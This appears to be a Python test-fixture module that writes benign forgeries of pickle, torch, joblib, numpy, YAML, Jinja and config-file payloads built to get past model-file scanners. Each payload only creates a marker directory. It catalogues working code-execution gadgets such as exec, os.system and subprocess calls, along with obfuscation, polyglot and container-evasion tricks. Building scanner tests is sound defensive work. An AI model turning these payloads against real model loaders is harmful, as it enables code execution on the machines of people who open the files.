"""Benign forgeries of every published way to smuggle code past a model scanner, for drills and tests.

    for forged in forge(folder, marker):
        report = vet(forged.path)          # must not be safe
        # and `marker` must not exist afterwards; loading the file with forged.loader would create it

Each payload does one thing: it creates the file or folder `marker`. Everything is written by hand with the standard
library, so no scanner and no loader is needed to make the files. `live` says whether loading really runs the payload
(on CPython 3.11, torch 2.13, joblib 1.6, numpy 2.4; tests/attacks/test_checkpoint_code.py proves it); the others are
forgeries that today's loaders refuse, crash on, or that act only later, and a scanner must refuse them all the same.

Families are the rows of the bypass table: what published attacks have in common, not who published them.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any


@dataclass(frozen=True, slots=True, kw_only=True)
class Forged:
    """One forged file on disk."""

    name: str
    """Unique; says what it does."""
    family: str
    """Row of the bypass table."""
    path: Path
    """The file or folder to scan and to load."""
    loader: str
    """pickle, torch, joblib, numpy, dcp, tar, yaml, jinja, import: what a victim would open it with."""
    live: bool
    """Whether that loader runs the payload."""
    technique: str = "E1"
    """Catalogue id."""


# An assembler for pickle streams ---------------------------------------------------------------------------------


def text(value: str) -> bytes:
    """BINUNICODE."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def named(module: str, name: str) -> bytes:
    """GLOBAL."""
    return f"c{module}\n{name}\n".encode()


def stack_named(module: str, name: str) -> bytes:
    """STACK_GLOBAL with its two strings."""
    return text(module) + text(name) + b"\x93"


def value(thing: Any) -> bytes:
    """Opcodes that build a constant, tuple, list or dict; bytes are taken as opcodes already."""
    if isinstance(thing, bytes):
        return thing
    if thing is None:
        return b"N"
    if thing is True or thing is False:
        return b"\x88" if thing else b"\x89"
    if isinstance(thing, int):
        return b"J" + struct.pack("<i", thing)
    if isinstance(thing, str):
        return text(thing)
    if isinstance(thing, tuple):
        return b"(" + b"".join(map(value, thing)) + b"t"
    if isinstance(thing, list):
        return b"(" + b"".join(map(value, thing)) + b"l"
    return b"(" + b"".join(value(part) for pair in thing.items() for part in pair) + b"d"


def raw(data: bytes) -> bytes:
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(data)) + data


def call(function: bytes, *arguments: Any) -> bytes:
    """function(*arguments) by REDUCE."""
    return function + value(tuple(arguments)) + b"R"


def stream(body: bytes, protocol: int = 4) -> bytes:
    """PROTO, body, STOP."""
    return bytes((0x80, protocol)) + body + b"."


def touch(marker: str) -> bytes:
    """The plainest payload: posix.mkdir(marker)."""
    return call(named("posix", "mkdir"), marker)


def python(marker: str) -> str:
    """Python source that creates the marker."""
    return f"open({marker!r}, 'w').close()"


BENIGN = stream(value({"weights": 1}))
"""What a decoy holds."""

Maker = Callable[[str], bytes]


# Callables on nobody's deny list ---------------------------------------------------------------------------------


def _gadgets(marker: str) -> dict[str, bytes]:
    """name → a stream that reaches the marker through some callable of the standard library, numpy or torch."""
    code = python(marker)
    shell = f"mkdir {marker}"
    plain: dict[str, tuple[str, str, tuple[Any, ...]]] = {
        "exec": ("builtins", "exec", (code,)),
        "eval": ("builtins", "eval", (code,)),
        "open": ("builtins", "open", (marker, "w")),
        "os-system": ("os", "system", (shell,)),
        "posix-system": ("posix", "system", (shell,)),
        "os-popen": ("os", "popen", (shell,)),
        "makedirs": ("os", "makedirs", (marker,)),
        "subprocess-getoutput": ("subprocess", "getoutput", (shell,)),
        "subprocess-call": ("subprocess", "call", (["mkdir", marker],)),
        "timeit": ("timeit", "timeit", ("pass", code)),
        "cprofile": ("cProfile", "run", (code, marker + "x")),
        "profile-run": ("profile", "run", (code, marker + "x")),
        "file-handler": ("logging", "FileHandler", (marker,)),
        "rotating-handler": ("logging.handlers", "RotatingFileHandler", (marker,)),
        "gzip-open": ("gzip", "open", (marker, "wb")),
        "bz2-file": ("bz2", "BZ2File", (marker, "wb")),
        "lzma-open": ("lzma", "open", (marker, "wb")),
        "zipfile": ("zipfile", "ZipFile", (marker, "w")),
        "tarfile": ("tarfile", "open", (marker, "w")),
        "codecs-open": ("codecs", "open", (marker, "w")),
        "io-open": ("io", "open", (marker, "w")),
        "fileio": ("_io", "FileIO", (marker, "w")),
        "wave": ("wave", "open", (marker, "wb")),
        "copyfile": ("shutil", "copyfile", ("/dev/null", marker)),
        "uuid-popen": ("uuid", "_get_command_stdout", ("mkdir", marker)),
        "pydoc-pager": ("pydoc", "pipepager", ("", shell)),
        "memmap": ("numpy", "memmap", (marker, "uint8", "w+", 0, 1)),
        "savetxt": ("numpy", "savetxt", (marker, [1])),
        "runstring": ("numpy.testing._private.utils", "runstring", (code, {})),
        "lincoef": ("numpy.f2py.crackfortran", "getlincoef", (f"__import__('os').mkdir({marker!r})", {})),
        "torch-save": ("torch", "save", (1, marker)),
        "torch-file": ("torch", "from_file", (marker, True, 1)),
    }
    made = {name: stream(call(named(module, entry), *arguments)) for name, (module, entry, arguments) in plain.items()}
    made["resolve-name"] = stream(call(call(named("pkgutil", "resolve_name"), "os:mkdir"), marker))
    made["methodcaller"] = stream(
        call(call(named("operator", "methodcaller"), "mkdir"), call(named("pathlib", "Path"), marker))
    )
    made["attrgetter"] = stream(
        call(
            call(call(named("operator", "attrgetter"), "mkdir"), call(named("importlib", "import_module"), "os")),
            marker,
        )
    )
    made["getattr-import"] = stream(
        call(call(named("builtins", "getattr"), call(named("importlib", "import_module"), "os"), "mkdir"), marker)
    )
    made["partial"] = stream(call(call(named("functools", "partial"), named("posix", "mkdir")), marker))
    made["map-list"] = stream(
        call(named("builtins", "list"), call(named("builtins", "map"), named("posix", "mkdir"), [marker]))
    )
    made["reduce"] = stream(call(named("functools", "reduce"), named("posix", "mkdir"), [marker, 0o777]))
    made["marshal-function"] = stream(
        call(call(named("types", "FunctionType"), call(named("builtins", "compile"), code, "x", "exec"), {}))
    )
    made["code-interpreter"] = stream(
        call(call(named("builtins", "getattr"), call(named("code", "InteractiveInterpreter")), "runsource"), code)
    )
    return made


def _names(marker: str) -> dict[str, bytes]:
    """Names written so that a list is not hit."""
    shell = f"mkdir {marker}"
    return {
        "dotted-through-torch": stream(call(stack_named("torch", "serialization.os.mkdir"), marker)),
        "dotted-through-stdlib": stream(call(stack_named("pathlib", "os.mkdir"), marker)),
        "class-method": stream(call(stack_named("pathlib", "Path.mkdir"), call(named("pathlib", "Path"), marker))),
        "submodule": stream(call(stack_named("asyncio", "base_events.os.mkdir"), marker)),
        "listed-prefix": stream(call(stack_named("collections", "_sys.modules.__class__"), [])),
        "python2-builtin": stream(call(named("__builtin__", "eval"), python(marker)), 2),
        "python2-commands": stream(call(named("commands", "getoutput"), shell), 2),
        "python2-cpickle": stream(call(named("cPickle", "loads"), raw(stream(touch(marker)))), 2),
        "python2-no-proto": b"c__builtin__\neval\n(" + b"S" + repr(python(marker)).encode() + b"\ntR.",
        "inst-opcode": f"(S{marker!r}\niposix\nmkdir\n.".encode(),
        "obj-opcode": stream(b"(" + named("posix", "mkdir") + text(marker) + b"o"),
        "newobj-opcode": stream(named("logging", "FileHandler") + value((marker,)) + b"\x81"),
        "text-escapes": b"(S'\\x70osix'\nS'mkd\\x69r'\n\x93".replace(b"(", b"\x80\x04", 1) + value((marker,)) + b"R.",
        "unicode-escapes": b"\x80\x04Vp\\u006fsix\nVmkdir\n\x93" + value((marker,)) + b"R.",
        "wide-strings": b"\x80\x04\x8d"
        + struct.pack("<Q", 5)
        + b"posix\x8d"
        + struct.pack("<Q", 5)
        + b"mkdir\x93"
        + value((marker,))
        + b"R.",
        "module-with-side-effects": stream(named("this", "s") + b"0" + touch(marker)),
    }


def _stacks(marker: str) -> dict[str, bytes]:
    """Stack and memo used so that a linear reader loses track."""
    run = touch(marker)
    swap = text("collections") + b"q\0" + b"0" + text("posix") + b"q\0" + b"0"
    decoy = text("posix") + b"q\0" + b"0" + text("builtins") + b"q\1" + b"0"
    return {
        "memo-overwritten": stream(swap + text("mkdir") + b"q\1" + b"0" + b"h\0h\1\x93" + value((marker,)) + b"R"),
        "memo-indirect": stream(decoy + b"h\0" + text("mkdir") + b"\x93" + value((marker,)) + b"R"),
        "memo-sparse": stream(text("posix") + b"r" + struct.pack("<I", 60_000) + b"0j" + struct.pack("<I", 60_000))[:-1]
        + text("mkdir")
        + b"\x93"
        + value((marker,))
        + b"R.",
        "memo-text": b"Vposix\np7\n0g7\nVmkdir\n\x93(V" + marker.encode() + b"\ntR.",
        "pop-mark-junk": stream(b"(" + text("collections") + text("OrderedDict") + b"1" + run),
        "pops-the-mark": stream(b"(0" + run),
        "duplicate": stream(named("posix", "mkdir") + b"2" + value((marker,)) + b"R" + b"0"),
        "junk-between": stream(text("posix") + b"N0" + text("mkdir") + b"]0" + b"\x93" + value((marker,)) + b"R"),
        "name-from-tuple": stream(value(("posix",)) + b"0" + run),
        "computed-name": stream(call(named("_codecs", "encode"), "x", "latin1") + b"0" + run),
        "result-discarded": stream(run + b"0" + value({"w": 1})),
        "obj-discarded": stream(b"(" + named("posix", "mkdir") + text(marker) + b"o0N"),
        "hidden-in-dict-key": stream(b"}" + run + value(1) + b"s"),
        "hidden-in-state": stream(named("argparse", "Namespace") + b")\x81" + b"}" + text("a") + run + b"sb"),
        "hidden-in-memo": stream(b"(" + run + b"q\x051" + value({"w": 1})),
        "second-proto": stream(b"\x80\x02" + call(named("__builtin__", "eval"), python(marker)), 4),
    }


def _broken(marker: str) -> dict[str, bytes]:
    """Streams that run first and break afterwards."""
    run = b"\x80\x04" + touch(marker)
    framed = touch(marker) + b"."
    return {
        "invalid-opcode": run + b"\xff",
        "no-stop": run,
        "cut-argument": run + b"X\xff\xff\0\0abc",
        "stack-underflow": run + b"00000.",
        "bad-protocol-later": run + b"\x80\x63.",
        "unknown-memo": run + b"h\x77.",
        "bad-utf8": run + b"X\2\0\0\0\xff\xfe.",
        "missing-mark": run + b"t.",
        "frame-too-long": run + b"\x95\xff\xff\xff\0\0\0\0\0N.",
        "frame-straddled": b"\x80\x04\x95" + struct.pack("<Q", 4) + framed,
        "frame-in-frame": b"\x80\x04\x95"
        + struct.pack("<Q", 9 + len(framed))
        + b"\x95"
        + struct.pack("<Q", len(framed))
        + framed,
        "stop-inside-frame": b"\x80\x04\x95" + struct.pack("<Q", len(framed) + 4) + framed + b"NNN.",
    }


def _nested(marker: str) -> dict[str, bytes]:
    """A second stage inside an argument."""
    inner = stream(touch(marker), 2)
    return {
        "pickle-loads": stream(call(named("pickle", "loads"), raw(inner)), 3),
        "c-pickle-loads": stream(call(named("_pickle", "loads"), raw(inner)), 3),
        "load-from-bytes": stream(call(named("torch.storage", "_load_from_bytes"), raw(torch_zip(inner))), 3),
        "load-from-bytes-legacy": stream(call(named("torch.storage", "_load_from_bytes"), raw(torch_legacy(inner))), 3),
        "zlib-then-loads": stream(
            call(named("pickle", "loads"), call(named("zlib", "decompress"), raw(zlib.compress(inner)))), 3
        ),
    }


def _listed(marker: str) -> dict[str, bytes]:
    """Listed names with hostile arguments, and state written where none belongs."""
    code = python(marker)
    namespace = named("argparse", "Namespace")
    setstate = namespace + b"(N}" + text("__setstate__") + named("builtins", "exec") + b"stb0"
    return {
        "getattr-of-class": stream(
            call(
                call(
                    named("builtins", "getattr"),
                    call(named("builtins", "getattr"), named("builtins", "exec"), "__self__"),
                    "exec",
                ),
                code,
            )
        ),
        "build-on-class": stream(setstate + namespace + b")\x81" + text(code) + b"b"),
        "reconstructor": stream(
            call(named("copyreg", "_reconstructor"), named("logging", "FileHandler"), named("builtins", "object"), None)
            + b"0"
            + touch(marker)
        ),
        "newobj-function": stream(
            call(named("copyreg", "__newobj__"), named("logging", "FileHandler"), marker) + b"0" + touch(marker)
        ),
        "defaultdict-factory": stream(
            call(named("collections", "defaultdict"), named("builtins", "breakpoint")) + b"0" + touch(marker)
        ),
    }


def _quiet(marker: str) -> dict[str, bytes]:
    """Streams that run nothing by themselves today, and must be refused all the same."""
    return {
        "ordered-dict-of-text": stream(call(named("collections", "OrderedDict"), f"mkdir {marker}")),
        "encode-with-codec": stream(call(named("_codecs", "encode"), "x", "rot13")),
        "extension-code": stream(b"\x82\x01"),
        "dunder-state": stream(
            named("argparse", "Namespace")
            + b")\x81}"
            + text("__reduce__")
            + named("collections", "OrderedDict")
            + b"sb"
        ),
        "memo-far-away": stream(b"Nr\xff\xff\xff\x7f"),
        "append-to-instance": stream(named("argparse", "Namespace") + b")\x81Na"),
        "persistent-id": stream(text("evil") + b"Q"),
        "out-of-band": stream(b"\x97", 5),
    }


# Containers ------------------------------------------------------------------------------------------------------


def zip_of(members: list[tuple[str, bytes]], *, compression: int = zipfile.ZIP_STORED) -> bytes:
    """A plain zip; names may repeat."""
    import warnings

    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w", compression) as archive:
        warnings.simplefilter("ignore")
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name), data, compression)
    return buffer.getvalue()


def torch_zip(
    pickled: bytes, *, extra: tuple[tuple[str, bytes], ...] = (), first: tuple[tuple[str, bytes], ...] = ()
) -> bytes:
    """A torch zip checkpoint around a stream without tensors."""
    return zip_of(
        [*first, ("archive/data.pkl", pickled), ("archive/byteorder", b"little"), ("archive/version", b"3\n"), *extra]
    )


def torch_legacy(pickled: bytes, *, section: int = 3) -> bytes:
    """torch's legacy format; `section` says which of the five pickles is `pickled`."""
    magic = b"\x80\x02\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little") + b"."
    info = stream(
        value({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}), 2
    )
    sections = [magic, stream(value(1001), 2), info, stream(value({"w": 1}), 2), stream(b"]", 2)]
    sections[section] = pickled
    return b"".join(sections)


def npy_objects(pickled: bytes) -> bytes:
    """A .npy of one object, whose data is the stream."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header + pickled


def _wrapper(kind: str, shape: tuple[int, ...]) -> bytes:
    """Opcodes up to the BUILD of a joblib array wrapper."""
    dtype = call(named("numpy", "dtype"), kind, False, True)
    state = (
        b"(" + text("subclass") + named("numpy", "ndarray") + text("shape") + value(shape) + text("order") + text("C")
    )
    state += text("dtype") + dtype + text("allow_mmap") + b"\x88" + text("numpy_array_alignment_bytes") + b"Nd"
    return named("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"


def joblib_array(marker: str) -> bytes:
    """joblib: raw array bytes, then a payload a reader that loses its place never sees."""
    return b"\x80\x04(" + _wrapper("f8", (2,)) + bytes(16) + touch(marker) + b"t."


def joblib_objects(marker: str) -> bytes:
    """joblib: an object array, whose bytes are a second pickle."""
    return b"\x80\x04(" + _wrapper("O8", (1,)) + stream(touch(marker)) + b"t."


def joblib_bytes_as_opcodes(marker: str) -> bytes:
    """joblib: array bytes that spell opcodes, for readers that do not skip them; and the payload behind."""
    return b"\x80\x04(" + _wrapper("u1", (2,)) + b"N." + touch(marker) + b"t."


def tar_of(members: list[tuple[str, bytes]], mode: str = "w") -> bytes:
    """A tar, plain or compressed."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:  # type: ignore[call-overload]
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def tar_that_is_a_pickle(marker: str) -> bytes:
    """A tar whose first member is called like opcodes: an unpickler runs the name."""
    name = b"cposix\nmkdir\n(V" + marker.encode() + b"\ntR."
    if len(name) > 99:
        name = b"cposix\nmkdir\n(V" + marker.encode()[-80:] + b"\ntR."
    return tar_of([(name.decode(), b"weights")])


def pickle_that_is_a_tar(marker: str) -> bytes:
    """A pickle that is a valid tar header as well: torch's old reader opens the archive inside."""
    return tar_of(
        [("pickle", stream(touch(marker), 2)), ("storages", stream(value(0), 2)), ("tensors", stream(value(0), 2))]
    )


def lz4_stored(data: bytes) -> bytes:
    """An LZ4 frame with one uncompressed block."""
    return b"\x04\x22\x4d\x18\x60\x70\x73" + struct.pack("<I", len(data) | 1 << 31) + data + bytes(4)


def _containers(marker: str) -> Iterator[tuple[str, str, str, str, bool, bytes]]:
    """(name, family, file name, loader, live, bytes)."""
    run = stream(touch(marker), 2)
    gz = gzip.compress(run, mtime=0)
    yield "torch-zip", "torch zip", "pytorch_model.bin", "torch", True, torch_zip(run)
    yield (
        "torch-zip-deflated",
        "torch zip",
        "model.pt",
        "torch",
        True,
        zip_of([("archive/data.pkl", run), ("archive/version", b"3\n")], compression=zipfile.ZIP_DEFLATED),
    )
    yield (
        "zip-first-of-two",
        "torch zip",
        "duplicate.pt",
        "torch",
        True,
        torch_zip(run, extra=(("archive/data.pkl", BENIGN),)),
    )
    yield (
        "zip-last-of-two",
        "torch zip",
        "duplicate2.pt",
        "torch",
        False,
        torch_zip(BENIGN, extra=(("archive/data.pkl", run),)),
    )
    yield "zip-other-case", "torch zip", "case.pt", "torch", True, torch_zip(BENIGN, first=(("archive/DATA.PKL", run),))
    yield (
        "zip-upper-case-only",
        "torch zip",
        "upper.pt",
        "torch",
        True,
        zip_of([("archive/DATA.PKL", run), ("archive/version", b"3\n")]),
    )
    yield "zip-other-root", "torch zip", "roots.pt", "torch", False, torch_zip(BENIGN, extra=(("other/data.pkl", run),))
    yield "zip-trailing-bytes", "torch zip", "tail.pt", "torch", True, torch_zip(run) + b"tail"
    yield "zip-behind-bytes", "torch zip", "front.pt", "torch", False, b"front" + torch_zip(run)
    yield "zip-local-name-differs", "torch zip", "local.pt", "torch", True, _local_name(torch_zip(run))
    yield "zip-flag-in-directory", "torch zip", "flag.pt", "torch", False, _central_flag(torch_zip(run))
    yield "zip-wrong-checksum", "torch zip", "crc.pt", "torch", True, _wrong_crc(torch_zip(run))
    for section in range(5):
        yield (
            f"legacy-section-{section}",
            "torch legacy",
            f"legacy{section}.pth",
            "torch",
            True,
            torch_legacy(run, section=section),
        )
    yield "legacy-tail", "torch legacy", "legacy_tail.pth", "torch", False, torch_legacy(BENIGN) + run
    yield "torch-tar", "torch legacy", "tar.pth", "torch", False, pickle_that_is_a_tar(marker)
    yield "npy-objects", "numpy", "array.npy", "numpy", True, npy_objects(run)
    yield "npz-objects", "numpy", "arrays.npz", "npz", True, zip_of([("arr_0.npy", npy_objects(run))])
    yield "npy-named-pickle", "numpy", "raw.npy", "numpy", True, run
    yield "joblib-after-array", "joblib", "after.joblib", "joblib", True, joblib_array(marker)
    yield "joblib-object-array", "joblib", "objects.joblib", "joblib", True, joblib_objects(marker)
    yield "joblib-array-as-opcodes", "joblib", "opcodes.joblib", "joblib", True, joblib_bytes_as_opcodes(marker)
    yield "joblib-gz", "compressed", "model.joblib.gz", "joblib", True, gz
    yield "joblib-zlib", "compressed", "model.joblib.z", "joblib", True, zlib.compress(run)
    yield "joblib-bz2", "compressed", "model.joblib.bz2", "joblib", True, bz2.compress(run)
    yield "joblib-xz", "compressed", "model.joblib.xz", "joblib", True, lzma.compress(run)
    yield "joblib-lzma", "compressed", "model.joblib.lzma", "joblib", True, lzma.compress(run, lzma.FORMAT_ALONE)
    yield "lz4-frame", "compressed", "model.lz4", "none", False, lz4_stored(run)
    yield "gz-in-gz", "compressed", "twice.gz", "none", False, gzip.compress(gz, mtime=0)
    yield "gz-two-members", "compressed", "two.gz", "none", False, gz + gzip.compress(b"", mtime=0)
    yield "zip-in-zip", "container", "nested.zip", "none", False, zip_of([("a.zip", zip_of([("b.pkl", run)]))])
    yield "tar-gz", "container", "model.tar.gz", "none", False, tar_of([("model/weights.bin", run)], "w:gz")
    yield "pickle-in-tar", "container", "model.tar", "none", False, tar_of([("weights.bin", torch_zip(run))])
    yield "seven-zip", "container", "model.7z", "none", False, b"7z\xbc\xaf\x27\x1c\0\4" + bytes(32)
    yield "deep-zip", "container", "deep.zip", "none", False, _deep_zip(run, 12)
    yield "tar-name-is-pickle", "polyglot", "poly.tar", "pickle", True, tar_that_is_a_pickle(marker)
    yield "pickle-before-zip", "polyglot", "poly.pkl", "pickle", True, run + torch_zip(BENIGN)
    yield (
        "pickle-in-image",
        "polyglot",
        "logo.png",
        "none",
        False,
        b"\x89PNG\r\n\x1a\n" + bytes(20) + zip_of([("data.pkl", run)]),
    )
    yield "two-pickles", "trailing", "two.pkl", "pickle-all", True, BENIGN + run
    yield "pickle-then-junk", "trailing", "junk.pkl", "pickle", True, run + b"\0\0\0"
    yield "safetensors-name", "extension", "model.safetensors", "pickle", True, run
    yield "json-name", "extension", "config.json", "pickle", True, run
    yield "text-name", "extension", "README.md", "pickle", True, b"cposix\nmkdir\n(V" + marker.encode() + b"\ntR."
    yield "no-name", "extension", "weights", "torch", True, torch_zip(run)
    yield "dot-name", "extension", ".hidden", "pickle", True, run
    yield "dcp-metadata", "dcp", ".metadata", "pickle", True, stream(touch(marker))
    yield "distcp-item", "dcp", "__0_0.distcp", "torch-first", True, torch_zip(run) + torch_zip(BENIGN)
    yield "rng-state", "side file", "rng_state.pth", "torch", True, torch_zip(run)
    yield "training-args", "side file", "training_args.bin", "torch", True, torch_zip(run)
    yield "optimizer", "side file", "optimizer.pt", "torch", True, torch_zip(run)
    yield "scheduler-legacy", "side file", "scheduler.pt", "torch", True, torch_legacy(run)


def _local_name(data: bytes) -> bytes:
    """The first local header calls its member otherwise than the directory does."""
    return data.replace(b"archive/data.pkl", b"archive/data.txt", 1)


def _central_flag(data: bytes) -> bytes:
    """The directory says 'encrypted', the local header does not."""
    position = data.index(b"PK\1\2") + 8
    return data[:position] + bytes((data[position] | 1,)) + data[position + 1 :]


def _wrong_crc(data: bytes) -> bytes:
    """Local and central checksums agree with each other and with nothing else."""
    crc = data[14:18]
    return data.replace(crc, bytes(4))


def _deep_zip(data: bytes, depth: int) -> bytes:
    for level in range(depth):
        data = zip_of([(f"level{level}", data)])
    return data


# Configs ---------------------------------------------------------------------------------------------------------


def _configs(marker: str) -> Iterator[tuple[str, str, str, str, bool, bytes]]:
    template = "{{ cycler.__init__.__globals__.os.mkdir('" + marker + "') }}"
    hidden = "{{ (messages|attr('__cl' ~ 'ass__')) }}"
    yield "auto-map", "config", "config.json", "none", False, b'{"auto_map": {"AutoModel": "modeling_x.Model"}}'
    yield (
        "auto-map-elsewhere",
        "config",
        "config.json",
        "none",
        False,
        b'{"auto_map": {"AutoModel": "owner/repo--m.Model"}}',
    )
    yield "auto-map-escaped", "config", "config.json", "none", False, b'{"auto\\u005fmap": {"AutoModel": "m.Model"}}'
    yield (
        "attention-kernel",
        "config",
        "config.json",
        "none",
        False,
        b'{"_attn_implementation_internal": "owner/kernel"}',
    )
    yield (
        "peft-library",
        "config",
        "adapter_config.json",
        "none",
        False,
        b'{"auto_mapping": {"parent_library": "evil"}}',
    )
    yield (
        "hydra-target",
        "config",
        "config.json",
        "none",
        False,
        b'{"model": {"_target_": "os.system", "command": "x"}}',
    )
    yield "chat-template", "template", "chat_template.jinja", "jinja", True, template.encode()
    yield "hidden-template", "template", "chat_template.jinja", "none", False, hidden.encode()
    yield (
        "yaml-python",
        "config",
        "config.yaml",
        "yaml",
        True,
        f"a: !!python/object/apply:posix.mkdir ['{marker}']\n".encode(),
    )
    yield "source-beside", "source", "modeling_x.py", "import", True, python(marker).encode()
    yield (
        "keras-lambda",
        "keras",
        "model.keras",
        "none",
        False,
        zip_of(
            [
                ("config.json", b'{"class_name": "Lambda", "module": "keras.layers", "config": {}}'),
                ("metadata.json", b"{}"),
            ]
        ),
    )
    yield (
        "keras-import",
        "keras",
        "model.keras",
        "none",
        False,
        zip_of([("config.json", b'{"class_name": "system", "module": "os", "config": {}}'), ("metadata.json", b"{}")]),
    )
    yield (
        "h5-lambda",
        "keras",
        "model.h5",
        "none",
        False,
        (b"\x89HDF\r\n\x1a\n" + bytes(100) + b'model_config\0{"class_name": "Lambda", "config": {}}\0'),
    )
    yield (
        "skops-function",
        "skops",
        "model.skops",
        "none",
        False,
        zip_of([("schema.json", b'{"__class__": "system", "__module__": "os", "__loader__": "FunctionNode"}')]),
    )
    yield (
        "skops-mislabelled",
        "skops",
        "model.skops",
        "none",
        False,
        zip_of([("schema.json", b'{"__class__": "call", "__module__": "subprocess", "__loader__": "ObjectNode"}')]),
    )
    yield "gguf-template", "template", "model.gguf", "none", False, _gguf(template)
    yield "onnx-outside", "onnx", "model.onnx", "none", False, _onnx("../../etc/passwd", "")
    yield "onnx-domain", "onnx", "model.onnx", "none", False, _onnx("", "ai.onnx.contrib")
    yield "safetensors-hole", "safetensors", "model.safetensors", "none", False, _safetensors(hole=4)
    yield "machine-code", "code", "libop.so", "none", False, b"\x7fELF" + bytes(60)
    yield "shell-script", "code", "install", "none", False, b"#!/bin/sh\nmkdir " + marker.encode() + b"\n"


def _gguf(template: str) -> bytes:
    def words(value: str) -> bytes:
        return struct.pack("<Q", len(value.encode())) + value.encode()

    return (
        b"GGUF"
        + struct.pack("<IQQ", 3, 0, 1)
        + words("tokenizer.chat_template")
        + struct.pack("<I", 8)
        + words(template)
    )


def _field(number: int, content: bytes) -> bytes:
    return bytes((number << 3 | 2, len(content))) + content


def _onnx(location: str, domain: str) -> bytes:
    node = _field(4, b"Add") + (_field(7, domain.encode()) if domain else b"")
    tensor = _field(13, _field(1, b"location") + _field(2, location.encode())) if location else b""
    graph = _field(1, node) + (_field(5, tensor) if tensor else b"")
    return b"\x08\x08" + _field(7, graph) + _field(8, b"\x10\x11")


def _safetensors(hole: int) -> bytes:
    header = b'{"w":{"dtype":"U8","shape":[4],"data_offsets":[%d,%d]}}' % (hole, hole + 4)
    return struct.pack("<Q", len(header)) + header + bytes(4 + hole)


# Everything ------------------------------------------------------------------------------------------------------

STREAMS: tuple[tuple[str, str, bool, Callable[[str], dict[str, bytes]]], ...] = (
    ("callable", "pickle", True, _gadgets),
    ("name", "pickle", True, _names),
    ("stack and memo", "pickle", True, _stacks),
    ("broken stream", "pickle", True, _broken),
    ("nested stage", "pickle", True, _nested),
    ("hostile argument", "pickle", True, _listed),
    ("quiet", "none", False, _quiet),
)
"""(family, loader, live, makers) of the bare pickle streams."""

NOT_LIVE = frozenset(("listed-prefix", "newobj-opcode"))
"""Streams that fail before they act on the versions named above."""


def forge(folder: Path, marker: Path) -> list[Forged]:
    """Write every forgery into its own folder below `folder`. Loading case `x` creates `<marker>-x`."""
    made: list[Forged] = []
    for family, loader, live, makers in STREAMS:
        for name in makers("x"):
            data = makers(f"{marker}-{name}")[name]
            made.append(_write(folder, (name, family, "model.pkl", loader, live and name not in NOT_LIVE, data)))
    for cases in (_containers, _configs):
        for name in [case[0] for case in cases("x")]:
            made += [_write(folder, case) for case in cases(f"{marker}-{name}") if case[0] == name]
    return made


def _write(folder: Path, case: tuple[str, str, str, str, bool, bytes]) -> Forged:
    name, family, file, loader, live, data = case
    place = folder / name
    place.mkdir(parents=True)
    path = place / file
    path.write_bytes(data)
    side = family in ("side file", "dcp", "config", "template", "source", "code") or file.startswith(".")
    technique = "E2" if side else "E1"
    return Forged(name=name, family=family, path=path, loader=loader, live=live, technique=technique)
